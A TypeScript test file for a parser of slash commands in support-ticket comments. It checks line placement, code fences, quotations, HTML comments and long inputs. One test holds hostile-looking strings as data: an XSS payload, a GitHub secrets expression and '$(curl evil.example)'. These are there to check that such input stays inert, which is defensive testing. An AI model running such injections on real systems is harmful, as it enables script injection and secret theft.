import { describe, expect, test } from "vitest";
import { smallDesk } from "../testing/small-desk.ts";
import { readCommands } from "./comment-command.ts";
import { commentLines } from "./comment-lines.ts";
import { readDeed } from "./deed-words.ts";

const verbs = (body: string) => readCommands(body).map(({ verb }) => verb);
const deedOf = (body: string) => {
  const [{ verb, words } = { verb: "", words: [] }] = readCommands(body);
  const read = readDeed(verb, words, { desk: smallDesk(), lang: "en", today: "2026-11-21" });
  return read.ok ? read.deed : read.issues;
};

describe("a command", () => {
  test.each([
    ["/take", { verb: "take" }],
    ["/Take\n\nThanks to all!", { verb: "take" }],
    ["/assign sm-second", { verb: "assign", queue: "sm-second" }],
    ["/priority high Many officers\nwait.", { verb: "priority", priority: "high", reason: "Many officers\nwait." }],
    ["/need arn, gstin screenshot\nPlease send them.", { verb: "need", needs: ["arn", "gstin", "screenshot"] }],
    ["/tried Cleared the cache", { verb: "tried", text: "Cleared the cache" }],
    ["/escalate sm-second Not ours", { verb: "escalate", to: "sm-second", reason: "Not ours" }],
    ["/escalate third Not ours", { verb: "escalate", to: "third", reason: "Not ours" }],
    ["/escalate It is beyond us", { verb: "escalate", reason: "It is beyond us" }],
    ["/refer", { verb: "refer" }],
    ["/decide Granted.", { verb: "decide", text: "Granted." }],
    ["/callback 14:30 Told the officer", { verb: "called-back", outcome: "14:30 Told the officer" }],
    ["/communicated 2026-11-20 by mail", { verb: "communicated", on: "2026-11-20", how: "by mail" }],
    ["/transfer sm-aside Wrong desk", { verb: "transfer", queue: "sm-aside", reason: "Wrong desk" }],
    ["/reopen Still white", { verb: "reopen", reason: "Still white" }],
    ["/phoned Nobody there", { verb: "phoned", outcome: "Nobody there" }],
    ["/note For us", { verb: "note", text: "For us", for: "staff" }],
    ["/close", { verb: "close" }],
    [
      "/resolve\nDo this:\n\n```\nclear\n```\n\n- and\n- that",
      { verb: "resolve", lang: "en", text: "Do this:\n\n```\nclear\n```\n\n- and\n- that" },
    ],
  ])("%j means what the command line means by it", (body, deed) => {
    expect(deedOf(body)).toEqual(deed);
  });

  test("confirms with the recommendation behind it, and names an earlier ticket however it is typed", () => {
    expect(deedOf("/confirm many The portal is down")).toMatchObject({
      scope: "many",
      recommendation: "The portal is down",
    });
    expect(readCommands("/duplicate sm-261121-a00000")).toEqual([{ verb: "duplicate", words: ["sm-261121-a00000"] }]);
  });

  test("stands at the beginning of a line, with a word of its own", () => {
    expect(verbs("Please /take this")).toEqual([]);
    expect(verbs("see /usr/bin/desk\n/usr/bin/desk")).toEqual([]);
    expect(verbs("- /take\n1. /close")).toEqual([]);
    expect(verbs("   /take\n/close   ")).toEqual(["take", "close"]);
    expect(verbs("text\r\n/take\r\n/note a\r\n")).toEqual(["take", "note"]);
  });

  test("comes after another in the order in which they are written, each text up to the next", () => {
    expect(readCommands("Done.\n/tried one\ntwo\n/resolve three\n\nfour\n/close")).toEqual([
      { verb: "tried", words: ["one", "two"] },
      { verb: "resolve", words: ["three", "four"] },
      { verb: "close", words: [] },
    ]);
  });
});

describe("no command is", () => {
  test.each([
    ["in a fenced block", "```\n/take\n```"],
    ["in a fenced block of tildes with backticks within", "~~~ text\n```\n/take\n~~~"],
    ["in a longer fence", "````\n```\n/take\n````"],
    ["in a fence that nobody closes", "```sh\n/take"],
    ["in an indented block", "Like this:\n\n    /take\n\n\t/take"],
    ["in inline code", "`/take`"],
    ["in inline code over two lines", "`so\n/take\nso`"],
    ["in a code span of two backticks", "``so `\n/take\n``"],
    ["in a quotation", "> /take\n>/take\n > /take"],
    ["in a quotation that runs on", "> as you said\n/take"],
    ["in an HTML comment", "<!-- /take -->"],
    ["in an HTML comment over several paragraphs", "<!--\n\n/take\n\n```\n-->"],
    ["in an element of code", "<pre>\n/take\n\n/take\n</pre>"],
    ["in an element of quotation", "<blockquote>\n\n/take\n\n</blockquote>"],
    ["in <code> on one line after another", "<code>\n/take</code>"],
  ])("%s", (_where, body) => {
    expect(verbs(body)).toEqual([]);
  });

  test("but what follows such a place speaks again", () => {
    expect(verbs("```\n/take\n```\n/close")).toEqual(["close"]);
    expect(verbs("> /take\n\n/close")).toEqual(["close"]);
    expect(verbs("<!-- /take -->\n/close")).toEqual(["close"]);
    expect(verbs("<pre>/take</pre>\n/close")).toEqual(["close"]);
    expect(verbs("a ` tick that nothing closes\n/close")).toEqual(["close"]);
    expect(verbs(">\n/close")).toEqual(["close"]);
  });

  test("and what is quoted or hidden belongs to no command's text either", () => {
    expect(readCommands("/note ours <!-- theirs -->\n> quoted\n\nmore")).toEqual([
      { verb: "note", words: ["ours", "more"] },
    ]);
  });
});

describe("65,000 characters", () => {
  const LENGTH = 65_000;
  test.each([
    ["of commands", "/take\n"],
    ["of backticks", "`"],
    ["of backtick runs that differ", "` `` ``` ```` "],
    ["of comment beginnings", "<!--"],
    ["of element beginnings", "<pre "],
    ["of elements", "<pre></pre>"],
    ["of comments", "<!---->"],
    ["of quotations", ">"],
    ["of fences", "```\n"],
    ["of slashes", "/"],
    ["of spaces", " "],
    ["of `### ` and spaces", "### \n"],
  ])("%s are read", (_what, part) => {
    const body = part.repeat(LENGTH / part.length);
    expect(commentLines(body).length).toBeGreaterThan(0);
    expect(readCommands(body).length).toBe(part.startsWith("/take") ? Math.floor(LENGTH / part.length) : 0);
  });

  test("of markup, mentions and expressions are text like any other", () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a workflow, not of this language
    const text = "<img src=x onerror=alert(1)> ${{ secrets.GITHUB_TOKEN }} $(curl evil.example) @state-unit #1 ![x](y)";
    expect(readCommands(`/note ${text}`)).toEqual([{ verb: "note", words: text.split(" ") }]);
  });
});
